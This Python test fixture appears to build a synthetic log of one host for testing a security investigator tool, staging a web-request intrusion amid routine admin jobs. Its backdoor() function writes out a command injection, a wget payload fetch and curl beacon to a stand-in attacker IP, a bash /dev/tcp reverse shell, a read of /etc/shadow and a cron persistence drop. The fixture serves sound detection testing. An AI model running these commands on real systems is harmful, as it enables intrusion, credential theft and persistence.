"""A small made-up host for tests of the investigator: a web request that becomes a backdoor, and people at work."""

from datetime import UTC, datetime, timedelta
from typing import Any

from watchfloor.agent.index import Index
from watchfloor.agent.recording import Recording, from_batches
from watchfloor.base.events import to_batch
from watchfloor.store.spool import Spool

START = datetime(2026, 3, 1, 8, 0, tzinfo=UTC)
ATTACKER = "203.0.113.9"


class Stage:
    """Collects rows of one host's log."""

    def __init__(self, host: str = "shop-1") -> None:
        self.host = host
        self.rows: list[dict[str, Any]] = []

    def row(self, at: float, action: str, pid: int, **columns: Any) -> str:
        record = str(len(self.rows) + 1)
        self.rows.append({
            "source": "made.log", "record": record, "time": int((START + timedelta(seconds=at)).timestamp() * 1e6),
            "device.hostname": self.host, "device.os": "linux", "action": action, "status": "success",
            "actor.process.uid": f"{self.host}/{pid}", "actor.process.pid": pid,
        } | {k.replace("__", "."): v for k, v in columns.items()})  # fmt: skip
        return f"made.log#{record}"

    def run(
        self, at: float, pid: int, parent: int, command: str, user: str = "www-data", session: str | None = None
    ) -> str:
        image = command.split(" ")[0]
        image = image if image.startswith("/") else f"/usr/bin/{image}"
        return self.row(
            at, "process.launch", parent, process__uid=f"{self.host}/{pid}", process__pid=pid,
            process__file__path=image,
            process__cmd_line=command, actor__user__name=user, actor__session__uid=session,
        )  # fmt: skip

    def touch(self, at: float, pid: int, path: str, action: str = "file.create", user: str = "www-data") -> str:
        return self.row(at, action, pid, file__path=path, actor__user__name=user)

    def connect(self, at: float, pid: int, address: str, port: int = 443) -> str:
        return self.row(at, "network.connect", pid, dst_endpoint__ip=address, dst_endpoint__port=port)

    def log_in(self, at: float, pid: int, user: str, address: str, session: str) -> int:
        """Somebody logs on over ssh; the number of the session's shell is returned."""
        self.run(at, pid, 1, "/usr/sbin/sshd -R", "root", session)
        self.row(at + 0.1, "logon.success", pid, src_endpoint__ip=address, user__name=user, actor__session__uid=session)
        self.run(at + 0.2, pid + 1, pid, "-bash", user, session)
        return pid + 1

    def accept(self, at: float, pid: int, address: str, user: str = "www-data") -> str:
        """A service takes a connection."""
        return self.row(
            at, "network.listen", pid, src_endpoint__ip=address, src_endpoint__port=40_000, actor__user__name=user,
            actor__process__file__path="/usr/bin/python3",
        )  # fmt: skip

    def recording(self) -> Recording:
        with Spool(1 << 28, "") as spool:
            return from_batches([to_batch(self.rows)], spool)

    def index(self) -> Index:
        return Index(self.recording())


def backdoor(note: str = "") -> tuple[Stage, dict[str, str]]:
    """A request drops a script and a cron job; cron runs the script later. ``note`` is put into hostile places."""
    stage = Stage()
    for n in range(30):  # people and services at work
        stage.run(n * 60.0, 100 + n, 50, f"/usr/sbin/logtool --day {n}", "root")
        stage.touch(n * 60.0 + 1, 100 + n, f"/var/log/shop/{n}.log", user="root")
    ids = {"entry": stage.run(600, 500, 60, f"/bin/sh -c 'ping 127.0.0.1;id {note}'")}
    ids["fetch"] = stage.run(601, 501, 500, f"wget -q http://{ATTACKER}/a.sh -O /dev/shm/.x/a.sh")
    stage.connect(601.2, 501, ATTACKER, 80)
    ids["drop"] = stage.touch(601.5, 501, "/dev/shm/.x/a.sh")
    ids["shell"] = stage.run(605, 502, 500, f"bash -c 'bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1'")
    ids["shadow"] = stage.run(610, 503, 502, "cat /etc/shadow", "root")
    ids["cron"] = stage.touch(620, 502, "/etc/cron.d/sync", user="root")
    ids["beacon"] = stage.run(1200, 700, 51, "/bin/sh /dev/shm/.x/a.sh", "root")
    ids["call"] = stage.run(1201, 701, 700, f"curl -s http://{ATTACKER}/b?{note}", "root")
    stage.run(1700, 800, 50, "/usr/sbin/logtool --day 99", "root")
    return stage, ids
